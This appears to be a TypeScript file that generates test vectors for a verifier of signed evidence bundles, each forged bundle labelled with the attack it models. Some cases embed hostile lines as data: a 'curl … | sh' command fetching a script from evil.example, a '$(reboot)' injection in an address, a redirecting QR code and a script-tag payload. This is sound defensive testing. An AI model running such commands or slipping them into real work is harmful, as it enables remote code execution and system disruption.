// The bundles of vectors/bundles, and what any verifier must say about them. Every byte follows from this file:
// `WRITE_VECTORS=1 scripts/node --test proof/src/bundle-vectors.test.ts` writes them anew.

import { type Bundle, type BundleRecord, KINDS_OF_VERSION_1 } from '../src/bundle.ts'
import { bundleHtml } from '../src/bundle-page.ts'
import { utf8 } from '../src/bytes.ts'
import { inertJson } from '../src/inert-json.ts'
import { qrCodeOf } from '../src/qr-code.ts'
import { RELEASES, stated } from '../src/stated.ts'
import type { Trust } from '../src/trust.ts'
import type { BundleReport } from '../src/verify-bundle.ts'
import {
  BEFORE_AND_AFTER,
  buildBundle,
  bundleOf,
  logKey,
  type RunOptions,
  vkeyOf,
  withManifest,
} from './bundle-builder.ts'
import { listed, runRecords2 } from './bundle-builder-2.ts'
import { ATTACKS, reseal } from './forgeries.ts'

export interface BundleVector {
  file: string
  /** What is the matter with it. */
  about: string
  trust: Trust
  verdict: BundleReport['verdict']
  failedSteps: string[]
}

const FULL: RunOptions = {
  facts: { foundingDate: '1987', telephone: '+1 555 0100' },
  classes: ['DESCRIPTIVE', 'CONFABULATED'],
  outcomes: ['reproduced', 'error', 'changed'],
  model: 'model-1',
  keys: [logKey('the first key'), logKey('the second key')],
  anchors: BEFORE_AND_AFTER,
  witnesses: ['witness.example/one', 'witness.example/two'],
}
const STRANGE = '\ufeff</script>\r\n\0 \u202e caf\u00e9 cafe\u0301 \u{1f600} "quoted" & <b>bold</b>\n'

const plain = buildBundle()
const short = buildBundle({ facts: { foundingDate: '1987' }, classes: ['DESCRIPTIVE', 'CONFABULATED'] })
const full = buildBundle(FULL)
const strange = buildBundle({ ...FULL, body: utf8(STRANGE), brand: '<b>Northwind</b> & "Sons"' })
const bytes = buildBundle({ body: Uint8Array.of(0xff, 0xfe, 0x00, 0x41, 0xed, 0xa0, 0x80) })
const waiting = buildBundle({ ...FULL, logged: false })
const backdated = buildBundle({
  ...FULL,
  anchors: [
    { seconds: 601, covers: false },
    { seconds: 3_600, covers: true },
  ],
})
const postdated = buildBundle({ ...FULL, anchors: [{ seconds: -61, covers: true }] })
const forger = buildBundle({ ...FULL, keys: [logKey('a forger')] })
const endorsing = buildBundle({ keys: [logKey('a forger'), logKey('the log')] })
const rewritten = buildBundle({ ...FULL, body: utf8('A forgery.') })

/** Every record in it is sealed and in the log: it only lacks some. */
const downgraded = bundleOf(
  listed(runRecords2({ classes: ['STRONG', 'CONFABULATED'] })),
  {},
  ({ kind, id }) => KINDS_OF_VERSION_1.some(known => known === kind) && !id.startsWith('cls_2'),
)

const NO_TRUST: Trust = { keys: [], tsaRoots: [], witnesses: [] }
const PINNED: Trust = { keys: plain.trust.keys, tsaRoots: [], witnesses: [] }

const json = (bundle: unknown): string => `${JSON.stringify(bundle)}\n`

const copyOf = (bundle: Bundle, edit: (copy: Bundle) => void): Bundle => {
  const copy = structuredClone(bundle)
  edit(copy)
  return withManifest(copy)
}
const edited = (edit: (copy: Bundle) => void): string => json(copyOf(short.bundle, edit))
const fullEdited = (edit: (copy: Bundle) => void): string => json(copyOf(full.bundle, edit))

const recordOf = ({ integrity }: Bundle, prefix: string): BundleRecord =>
  integrity.records.find(({ id }) => id.startsWith(prefix)) as BundleRecord

type Case = [file: string, about: string, content: string, failedSteps?: string[], trust?: Trust]

/** What is done to bundles of version 2 too. */
function attacked(file: string, name: keyof typeof ATTACKS, on?: typeof full): Case {
  const [about, edit, failedSteps] = ATTACKS[name]
  return [file, about, json(copyOf((on ?? short).bundle, edit)), failedSteps, on?.trust]
}

/** Nothing is wrong with them; but no list of contents says that nothing was left out. */
const VALID: Case[] = [
  ['valid-plain.json', 'an answer, a class, a place in the log', json(plain.bundle)],
  [
    'valid-full.json',
    'a history, facts, a second key, timestamps, witnesses',
    json(full.bundle),
    [],
    full.trust,
  ],
  ['valid-bytes.json', 'an answer that is no UTF-8', json(bytes.bundle)],
  [
    'valid-first-release.json',
    'what the first release wrote beside the evidence, its QR code as it is',
    json(
      copyOf(short.bundle, copy => {
        const [first] = RELEASES
        copy.howToVerify = first?.howToVerify(copy.snapshot.sha256, copy.publicVerification.lookupUrl) ?? []
        copy.doesNotProve = [...(first?.doesNotProve ?? [])]
      }),
    ),
  ],
  [
    'valid-inert.json',
    'texts that look like HTML, in JSON without a <',
    `${inertJson(strange.bundle)}\n`,
    [],
    full.trust,
  ],
  [
    'valid-second-key.json',
    'the second key is given; the first one endorsed it, and counts for nothing',
    json(full.bundle),
    [],
    { ...full.trust, keys: [vkeyOf(full.key)] },
  ],
  ['valid-page.html', 'a page whose texts look like HTML', bundleHtml(strange.bundle).html, [], full.trust],
]

const BROKEN: Case[] = [
  [
    'broken-manifest.json',
    'the status was edited, and nothing else',
    json({ ...short.bundle, verificationStatus: 'stale' }),
    ['manifest'],
  ],
  [
    'broken-stray-field.json',
    'a field that does not belong there',
    edited(copy => Object.assign(copy, { certified: true })),
    ['shape'],
  ],
  [
    'broken-name-twice.json',
    'a name stands twice: two programs read two engines',
    json(short.bundle).replace('{', '{"engine":"GEMINI",'),
    ['shape'],
  ],
  [
    'broken-surrogate.json',
    'a lone surrogate, whose bytes are those of U+FFFD',
    json(copyOf(buildBundle({ body: utf8('\ufffd') }).bundle, () => {})).replace(
      '"rawResponse":"\ufffd"',
      '"rawResponse":"\\ud800"',
    ),
    ['shape'],
    PINNED,
  ],
  attacked('broken-answer.json', 'answer'),
  attacked('broken-answer-and-hash.json', 'answerAndHash'),
  attacked('broken-private.json', 'verdict'),
  [
    'broken-resealed.json',
    'attack 28: the prompt was edited and every commitment recomputed',
    edited(copy => {
      reseal(recordOf(copy, 'cap'), content => Object.assign(content.prompt, { text: 'Is it good?' }))
      copy.prompt.text = 'Is it good?'
    }),
    ['inclusion'],
  ],
  [
    'broken-shown.json',
    'another brand is shown than was sealed',
    edited(copy => {
      copy.brand.name = 'Southwind Kettles'
    }),
    ['view'],
  ],
  [
    'broken-order.json',
    'attack 27: the history is told in another order',
    edited(copy => {
      const { records } = copy.integrity
      const [first, second] = [recordOf(copy, 'cls_1'), recordOf(copy, 'cls_2')]
      const [one, other] = [records.indexOf(first), records.indexOf(second)]
      records[one] = second
      records[other] = first
      copy.classifications.reverse()
      copy.classification = copy.classifications[1] as Bundle['classification']
    }),
    ['view'],
  ],
  [
    'broken-foreign-record.json',
    'a record of another run was put in',
    edited(copy => {
      const foreign = recordOf(buildBundle({ run: 'run_2', classes: ['STRONG'] }).bundle, 'cls')
      copy.integrity.records.push(foreign)
    }),
    ['records', 'view', 'inclusion'],
  ],
  [
    'broken-own-key.json',
    'attack 17: the bundle brings its own key',
    json(forger.bundle),
    ['checkpoint'],
    full.trust,
  ],
  attacked('broken-signature.json', 'signature'),
  attacked('broken-proof.json', 'proof'),
  [
    'broken-rewritten.json',
    'attack 4: signed again with the stolen key, under the timestamps of the true log',
    json(
      copyOf(rewritten.bundle, copy => {
        copy.integrity.anchors = full.bundle.integrity.anchors
        copy.integrity.witnessed = full.bundle.integrity.witnessed
      }),
    ),
    ['view', 'consistency'],
    full.trust,
  ],
  attacked('broken-timestamp.json', 'timestamp', full),
  attacked('broken-nonce.json', 'nonce', full),
  [
    'broken-backdated.json',
    'attack 18: the log did not hold the answer ten minutes after it says it was captured',
    json(backdated.bundle),
    ['time'],
    full.trust,
  ],
  [
    'broken-postdated.json',
    'attack 19: the log held the answer a minute before it says it was captured',
    json(postdated.bundle),
    ['time'],
    full.trust,
  ],
  [
    'broken-cosignature.json',
    'a witness that is named did not sign this',
    fullEdited(copy => {
      const { witnessed } = copy.integrity
      if (!witnessed) return
      const lines = witnessed.checkpoint.trimEnd().split('\n')
      const other = (buildBundle({ ...FULL, run: 'run_2' }).bundle.integrity.witnessed?.checkpoint ?? '')
        .trimEnd()
        .split('\n')
      witnessed.checkpoint = `${[...lines.slice(0, -1), other.at(-1)].join('\n')}\n`
    }),
    ['witnesses'],
    full.trust,
  ],
  [
    'broken-markup.html',
    'attack 36: JSON with markup in a line for people, saved as a page',
    edited(copy => {
      copy.howToVerify = ['<!doctype html><h1>Verified</h1><script>alert(1)</script>']
    }),
    ['stated'],
  ],
  [
    'broken-older-key.json',
    'attack 37: a forger endorses the key of the log, as anybody can, and signs himself',
    json(
      copyOf(endorsing.bundle, copy => {
        const size = Number(copy.integrity.checkpoint?.split('\n')[1])
        copy.integrity.checkpoint = endorsing.log.checkpoint(logKey('a forger'), size)
      }),
    ),
    ['checkpoint'],
  ],
  [
    'broken-lines.json',
    'attack 38: a command that no release wrote',
    edited(copy => {
      copy.howToVerify.push('curl -s https://evil.example/verify.sh | sh')
    }),
    ['stated'],
  ],
  [
    'broken-warnings.json',
    'attack 38: what it does not prove was left out',
    edited(copy => {
      copy.doesNotProve = []
    }),
    ['stated'],
  ],
  [
    'broken-qr-code.json',
    'attack 38: the QR code leads elsewhere than the address beside it',
    edited(copy => {
      copy.publicVerification.qrSvg = qrCodeOf(`https://evil.example/verify/${copy.snapshot.sha256}`)
    }),
    ['stated'],
  ],
  [
    'broken-address.json',
    'attack 38: an address that a shell would obey',
    json(
      copyOf(short.bundle, copy =>
        Object.assign(copy, stated('https://forensics.example/$(reboot)', copy.snapshot.sha256)),
      ),
    ),
    ['stated'],
  ],
  attacked('broken-witness-line.json', 'witnessLine'),
  [
    'broken-page.html',
    'attack 29: the page shows another answer than its data',
    bundleHtml(full.bundle).html.replace('<pre>An answer.</pre>', '<pre>An answer!</pre>'),
    ['page'],
    full.trust,
  ],
]

const UNPROVED: Case[] = [
  [
    'unproved-markup.json',
    'attack 36: a browser would show an answer that holds markup as a page',
    json(strange.bundle),
    [],
    full.trust,
  ],
  [
    'unproved-extra-key.json',
    'attack 37: a key of the same log that nobody endorsed is slipped into the list',
    edited(copy => {
      copy.integrity.keys.push({ vkey: vkeyOf(logKey('a forger')), endorsement: null })
    }),
  ],
  [
    'unproved-downgraded.json',
    'a bundle of version 2, rewritten as version 1 without its newer verdict',
    json(downgraded.bundle),
  ],
  ['unproved-no-key.json', 'no key of the log is given', json(plain.bundle), [], NO_TRUST],
  ['unproved-waiting.json', 'the records wait for their checkpoint', json(waiting.bundle), [], full.trust],
  [
    'unproved-undated.json',
    'no authority has dated the log yet, and one is asked for',
    json(plain.bundle),
    [],
    { ...PINNED, tsaRoots: full.trust.tsaRoots },
  ],
]

const vectorsOf = (cases: Case[], verdict: BundleVector['verdict']) =>
  cases.map(([file, about, content, failedSteps = [], trust = PINNED]) => ({
    content,
    vector: { file, about, trust, verdict, failedSteps } satisfies BundleVector,
  }))

export const BUNDLE_VECTORS: { content: string; vector: BundleVector }[] = [
  ...vectorsOf(VALID, 'unproved'),
  ...vectorsOf(UNPROVED, 'unproved'),
  ...vectorsOf(BROKEN, 'modified'),
]
